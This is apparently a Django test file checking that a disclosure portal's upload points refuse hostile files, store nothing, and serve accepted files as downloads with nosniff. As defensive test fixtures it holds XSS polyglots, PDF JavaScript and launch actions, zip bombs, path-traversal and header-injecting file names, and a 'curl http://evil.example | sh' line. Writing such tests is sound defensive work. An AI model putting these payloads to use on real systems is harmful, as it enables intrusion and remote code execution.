"""Every upload entry point refuses dangerous files with a clear message and stores nothing.

The entry points: a disclosure item's attachments (back office), the attachments of the public
application form, the materials of an online service application, and the import of CSV/XLSX
tables. Each is fed polyglots (a PDF or PNG header followed by HTML, a zip appended to an image,
a PDF with JavaScript), SVG with script, HTML renamed .pdf, renamed executables, a zip bomb, an
empty file, oversized files and hostile names; afterwards there is no new row and no file in the
(temporary) MEDIA_ROOT. Files that are accepted are served as downloads, with nosniff and never
as HTML of the site's origin.
"""

from __future__ import annotations

import io
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import translation

from gongkai.applications import actions as app_actions
from gongkai.applications.models import Application, Document
from gongkai.core.actions import ActionError
from gongkai.core.files import MB, check_upload, sniff
from gongkai.disclosure import actions as item_actions
from gongkai.disclosure.imports import tables
from gongkai.disclosure.models import Attachment, DisclosureItem
from gongkai.office import views_items
from gongkai.services.models import CaseMaterial, ServiceCase
from tests.applications.conftest import PERSON
from tests.portal import test_applications_apply as apply_support
from tests.portal import test_services_support as services_support

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
)
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x11" * 64 + b"\xff\xd9"


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _xlsx_bomb() -> bytes:
    """A workbook whose sheet inflates to 401 MB of spaces (about 400 KB packed)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", "<workbook/>")
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            chunk = b" " * MB
            for _ in range(401):
                sheet.write(chunk)
    return buf.getvalue()


def _docx_bomb() -> bytes:
    """A Word document whose body inflates a thousand times (10 MB of zeros in ~10 KB)."""
    return _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"0" * (10 * MB)})


def _lying_zip() -> bytes:
    """A docx whose central directory claims a tiny member that really inflates to 5 MB."""
    payload = b"0" * (5 * MB)
    data = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": payload})
    size = len(payload).to_bytes(4, "little")
    return data.replace(size, (100).to_bytes(4, "little"))


# Each: (label, file name, content). All must be refused.
HOSTILE: list[tuple[str, str, bytes]] = [
    ("pdf header then html", "report.pdf", b"%PDF-1.4\n<html><body><script>alert(document.domain)</script>"),
    ("png header then script", "photo.png", PNG + b"<script>alert(document.domain)</script>"),
    ("jpeg with html at the end", "photo.jpg", JPEG + b"<html><img src=x onerror=alert(1)></html>"),
    ("gifar: zip appended to a gif", "logo.gif", GIF + _zip({"Evil.class": b"\xca\xfe\xba\xbe" + b"\x00" * 40})),
    ("pdf with appended zip", "notice.pdf", PDF + _zip({"index.html": b"<script>alert(1)</script>"})),
    ("pdf with javascript", "form.pdf",
     b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n"),
    ("pdf with a launch action", "open.pdf",
     b"%PDF-1.4\n1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj\n%%EOF\n"),
    ("svg with script", "chart.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("svg behind an xml declaration", "chart.png",
     b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ("html renamed .pdf", "scan.pdf", b"<!DOCTYPE html><html><body>hi</body></html>"),
    ("html with a byte-order mark", "scan.pdf", b"\xef\xbb\xbf<body onload=alert(1)>hello</body>"),
    ("html without html tag", "notes.txt", "通知 <img src=x onerror=alert(1)>".encode()),
    ("utf-16 html", "scan.pdf", "<html><script>alert(1)</script></html>".encode("utf-16")),
    ("elf renamed .pdf", "report.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120),
    ("pe renamed .docx", "report.docx", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"PE\x00\x00" + b"\x00" * 64),
    ("mach-o renamed .png", "photo.png", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64),
    ("shell script", "readme.txt", b"#!/bin/sh\ncurl http://evil.example | sh\n"),
    ("zip with an executable", "docs.zip", _zip({"setup.exe": b"MZ\x90\x00" + b"\x00" * 60})),
    ("zip bomb (docx)", "budget.docx", _docx_bomb()),
    ("zip lying about its size", "budget.docx", _lying_zip()),
    ("empty file", "empty.pdf", b""),
]  # fmt: skip
HOSTILE_NAMES = [
    ("nul byte", "report\x00.exe.pdf"),
    ("right-to-left override", "report\u202efdp.exe"),
    ("line break", "report\r\nContent-Type: text/html.pdf"),
    ("very long", "报" * 300 + ".pdf"),
    ("zero-width joiner between letters", "rep\u200dort.pdf"),
    ("zero-width joiner after an emoji", "家庭👨\u200d.pdf"),
    ("zero-width space", "report\u200b.pdf"),
    ("byte order mark", "\ufeffreport.pdf"),
]


def media_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


@pytest.fixture
def media(settings: Any, tmp_path: Path) -> Path:
    root = tmp_path / "media"
    settings.MEDIA_ROOT = root
    return root


@pytest.fixture
def draft(world: Any, media: Path) -> DisclosureItem:
    return item_actions.create_item(actor=world.clerk_a, organisation=world.unit_a, title="附件测试",
                                    formed_on=date(2025, 9, 1))  # fmt: skip


# --- the sniffing module --------------------------------------------------------------------------


@pytest.mark.parametrize("label,name,data", HOSTILE, ids=[h[0] for h in HOSTILE])
def test_check_upload_refuses_every_hostile_file(label: str, name: str, data: bytes) -> None:
    with translation.override("en"), pytest.raises(ActionError) as info:
        check_upload(data, name)
    message = " ".join(info.value.messages)
    assert name in message or "unpacked" in message, message


@pytest.mark.parametrize("label,name", HOSTILE_NAMES, ids=[h[0] for h in HOSTILE_NAMES])
def test_check_upload_refuses_hostile_names(label: str, name: str) -> None:
    with translation.override("en"), pytest.raises(ActionError, match="file name"):
        check_upload(PDF, name)


@pytest.mark.parametrize(
    "name", ["家庭👨\u200d👩\u200d👧.pdf", "彩虹🏳\ufe0f\u200d🌈.pdf", "👍🏽\u200d👍.pdf", "预算（2025）.pdf"]
)
def test_names_a_phone_gives_photos_are_accepted(name: str) -> None:
    """Emoji joined by zero-width joiners (families, flags) are what they look like."""
    check_upload(PDF, name)


@pytest.mark.parametrize(
    "data,extension",
    [(PDF, "pdf"), (PNG, "png"), (GIF, "gif"), (JPEG, "jpg"),
     ("关于<2025年>预算的说明：收入 > 支出。".encode(), "txt"),
     ("通".encode() * 30000, "txt"),  # a multi-byte character cut by the 64 KiB sample
     ("预算".encode("gb18030") * 40000, "txt"),
     (_zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}), "xlsx")],
)  # fmt: skip
def test_ordinary_files_are_still_accepted(data: bytes, extension: str) -> None:
    sniffed = sniff(data)
    assert sniffed is not None and sniffed.extension == extension


def test_size_limits_come_from_the_settings(settings: Any) -> None:
    settings.UPLOAD_MAX_BYTES = {"document": 1024, "image": 1024, "video": 1024}
    check_upload(PDF, "small.pdf")
    with translation.override("en"), pytest.raises(ActionError, match="too large"):
        check_upload(PDF + b"%" * 2048, "big.pdf")


# --- disclosure attachments -------------------------------------------------------------------------


def test_the_attachment_action_stores_nothing(world: Any, draft: DisclosureItem, media: Path) -> None:
    cases = HOSTILE + [(f"name: {label}", name, PDF) for label, name in HOSTILE_NAMES]
    accepted = []
    for label, name, data in cases:
        try:
            item_actions.add_attachment(actor=world.clerk_a, item=draft, name=name, data=data)
        except ActionError:
            continue
        accepted.append(label)
    assert accepted == []
    assert not Attachment.objects.exists()
    assert media_files(media) == []


def test_the_office_attachment_page_refuses_and_says_why(world: Any, draft: DisclosureItem, media: Path,
                                                         login: Any, monkeypatch: Any) -> None:  # fmt: skip
    client = login(world.clerk_a)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    monkeypatch.setattr(views_items, "MAX_UPLOAD_BYTES", 4096)
    uploads = [SimpleUploadedFile(name, data) for _label, name, data in HOSTILE if data]
    uploads += [SimpleUploadedFile("big.pdf", PDF + b"%" * 5000), SimpleUploadedFile("empty.pdf", b"")]
    html = ""
    for start in range(0, len(uploads), 10):  # the page takes at most 20 files at a time
        batch = uploads[start : start + 10]
        response = client.post(f"/office/items/{draft.pk}/attachments/", {"files": batch}, follow=True)
        assert response.status_code == 200
        html += response.content.decode()
    assert html.count("not an accepted file type") >= len(HOSTILE) - 4, html
    assert "too large" in html
    assert not Attachment.objects.exists()
    assert media_files(media) == []


def test_a_traversing_name_is_stored_under_a_neutral_name_inside_media_root(world: Any, draft: DisclosureItem,
                                                                            media: Path) -> None:  # fmt: skip
    for name in ("../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/cron.d/x.pdf", "..", "."):
        att = item_actions.add_attachment(actor=world.clerk_a, item=draft, name=name, data=PDF)
        stored = (media / att.file.name).resolve()
        assert stored.is_relative_to(media.resolve()) and stored.read_bytes() == PDF
        assert "/" not in att.name and "\\" not in att.name and ".." not in att.file.name
        assert att.name.endswith(".pdf")
    assert all(p.resolve().is_relative_to(media.resolve()) for p in media_files(media))


# --- the public application form ------------------------------------------------------------------------


def _apply(world: Any, uploads: list[Any]) -> Any:
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    html = client.get("/apply/").content.decode()
    data = apply_support.form_data(html, world.unit_a)
    data["attachments"] = uploads
    return client.post("/apply/", data)


def test_the_application_form_refuses_hostile_attachments(world: Any, media: Path) -> None:
    not_refused = []
    for label, name, data in HOSTILE:
        response = _apply(world, [SimpleUploadedFile(name, data)])
        html = response.content.decode()
        if response.status_code != 200 or 'id="id_attachments_error"' not in html:
            not_refused.append(label)
        elif not any(m in html for m in ("not an accepted file type", "empty", "unpacked")):
            not_refused.append(f"{label}: no clear message")
    assert not_refused == []
    assert Application.objects.count() == 0 and Document.objects.count() == 0
    assert media_files(media) == []


def test_the_application_form_refuses_oversized_and_nul_named_files(
    world: Any, media: Path, settings: Any
) -> None:
    settings.APPLY_UPLOAD_MAX_MB = 1
    response = _apply(world, [SimpleUploadedFile("big.pdf", PDF + b"%" * MB)])
    assert response.status_code == 200 and "too large" in response.content.decode()
    assert Application.objects.count() == 0 and media_files(media) == []
    # Django's upload parser drops the NUL of a browser's file name; the name kept is clean.
    response = _apply(world, [SimpleUploadedFile("a\x00b.pdf", PDF)])
    assert response.status_code in (200, 302)
    assert all("\x00" not in d.filename for d in Document.objects.all())
    assert all("\x00" not in str(p) for p in media_files(media))


def test_the_application_action_refuses_a_hostile_document(world: Any, media: Path) -> None:
    for _label, name, data in HOSTILE[:6] + [("nul", "a\x00.pdf", PDF)]:
        with pytest.raises(ActionError):
            app_actions.submit_application(
                actor=None, organisation=world.unit_a, documents=[(name, data)], **PERSON
            )
    assert Application.objects.count() == 0 and media_files(media) == []


# --- online service applications -----------------------------------------------------------------------


@pytest.mark.parametrize("label,name,data", HOSTILE[::3], ids=[h[0] for h in HOSTILE[::3]])
def test_online_service_applications_refuse_hostile_materials(world: Any, media: Path, label: str, name: str,
                                                              data: bytes) -> None:  # fmt: skip
    services = services_support.make_services(world)
    client = services_support.english()
    url = f"/services/items/{services.item.pk}/apply/"
    html = client.get(url).content.decode()
    fields = {"applicant_kind": "person", "applicant_name": "李四", "id_number": "430223199001011234",
              "phone": "13907331002", "files": [SimpleUploadedFile(name, data)]}  # fmt: skip
    response = client.post(url, services_support.form_data(html, fields))
    assert response.status_code == 200
    page = response.content.decode()
    assert 'id="id_files_error"' in page
    assert ServiceCase.objects.count() == 0 and CaseMaterial.objects.count() == 0
    assert media_files(media) == []


def test_the_service_case_action_checks_every_file_before_storing_any(world: Any, media: Path) -> None:
    services = services_support.make_services(world)
    files = [SimpleUploadedFile("ok.pdf", PDF), SimpleUploadedFile("evil.png", PNG + b"<script>x</script>")]
    with pytest.raises(ActionError):
        services_support.actions.submit_case_online(
            actor=None, item=services.item, applicant_kind="person", applicant_name="李四",
            id_number="430223199001011234", phone="13907331002", files=files,
        )  # fmt: skip
    assert ServiceCase.objects.count() == 0 and media_files(media) == []


# --- imports (CSV / XLSX) ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name,data,message",
    [
        ("bomb.xlsx", None, "too large when unpacked"),
        ("items.xlsx", b"MZ\x90\x00" + b"\x00" * 200, ""),
        ("items.xlsx", _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<not-xml"}), "not a valid XLSX"),
        ("items.csv", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200, ""),
        ("items.csv", b"", "empty"),
    ],
    ids=["zip-bomb", "exe-as-xlsx", "broken-xlsx", "elf-as-csv", "empty"],
)  # fmt: skip
def test_the_item_import_refuses_bad_tables(world: Any, media: Path, login: Any, name: str, data: bytes | None,
                                            message: str) -> None:  # fmt: skip
    data = _xlsx_bomb() if data is None else data
    client = login(world.clerk_a)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    before = DisclosureItem.objects.count()
    response = client.post("/office/items/import/", {"file": SimpleUploadedFile(name, data), "mode": "draft",
                                                     "organisation": world.unit_a.pk})  # fmt: skip
    assert response.status_code == 200
    html = response.content.decode()
    assert 'role="alert"' in html or "errorlist" in html, html[:2000]
    if message:
        assert message in html
    assert DisclosureItem.objects.count() == before and media_files(media) == []


def test_read_table_refuses_an_oversized_table(monkeypatch: Any) -> None:
    monkeypatch.setattr(tables, "MAX_BYTES", 1024)
    with pytest.raises(tables.FileRejected, match="larger than"):
        tables.read_table(b"a,b\n" + b"1,2\n" * 1000, "big.csv")


# --- serving what was accepted ------------------------------------------------------------------------


def test_accepted_files_are_downloads_never_pages_of_the_origin(
    world: Any, media: Path, client: Client
) -> None:
    item = item_actions.create_item(actor=world.clerk_a, organisation=world.unit_a, title="公开附件",
                                    formed_on=date(2025, 9, 1))  # fmt: skip
    text = item_actions.add_attachment(
        actor=world.clerk_a, item=item, name="说明.html", data="纯文本说明".encode()
    )
    pdf = item_actions.add_attachment(actor=world.clerk_a, item=item, name="预算.pdf", data=PDF)
    item_actions.publish_item(actor=world.reviewer, item=item)
    assert text.name.endswith(".txt") and text.content_type == "text/plain"
    for attachment in (text, pdf):
        response = client.get(f"/attachments/{attachment.pk}/download/")
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment;")
        assert response["X-Content-Type-Options"] == "nosniff"
        assert "html" not in response["Content-Type"] and "svg" not in response["Content-Type"]
        assert "sandbox" in response["Content-Security-Policy"]
        # MEDIA_URL is not served by the application: the stored file is reached only as a download.
        assert client.get(f"/media/{attachment.file.name}").status_code == 404


def test_office_downloads_of_case_files_are_attachments_with_nosniff(
    world: Any, media: Path, login: Any
) -> None:
    """An applicant's documents and a service case's materials, opened by staff, stay downloads."""
    app, _code = app_actions.submit_application(actor=None, organisation=world.unit_a,
                                                documents=[("说明.txt", "纯文本".encode())], **PERSON)  # fmt: skip
    services = services_support.make_services(world)
    case, _code = services_support.actions.submit_case_online(
        actor=None, item=services.item, applicant_kind="person", applicant_name="李四",
        id_number="430223199001011234", phone="13907331002", files=[SimpleUploadedFile("材料.png", PNG)],
    )  # fmt: skip
    document, material = app.documents.get(), case.material_files.get()
    for user, path in (
        (world.reviewer, f"/office/applications/{app.pk}/documents/{document.pk}/"),
        (services.unit_staff, f"/office/services/cases/{case.pk}/materials/{material.pk}/"),
    ):
        response = login(user).get(path)
        assert response.status_code == 200, path
        assert response["Content-Disposition"].startswith("attachment;"), path
        assert response["X-Content-Type-Options"] == "nosniff", path
        assert response["Content-Type"] in ("text/plain", "image/png"), (path, response["Content-Type"])


@pytest.mark.django_db
def test_a_refused_file_leaves_no_earlier_file_of_the_same_upload_in_storage(world, settings, tmp_path):
    """Every file is checked before any is stored: the rollback cannot take files back."""
    from gongkai.disclosure import history

    settings.MEDIA_ROOT = tmp_path
    good = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    item = item_actions.create_item(actor=world.clerk_a, organisation=world.unit_a, title="附件",
                                    formed_on=date(2025, 9, 1))  # fmt: skip
    with pytest.raises(ActionError):
        history.attach_many(actor=world.clerk_a, files=[(item, "a.pdf", good), (item, "b.pdf", b"MZ\x90\x00" * 20)])
    with pytest.raises(ActionError):
        app_actions.submit_application(
            actor=None, organisation=world.unit_a, documents=[("a.pdf", good), ("b.exe", b"\x7fELF\x02\x01")],
            **PERSON,
        )
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []
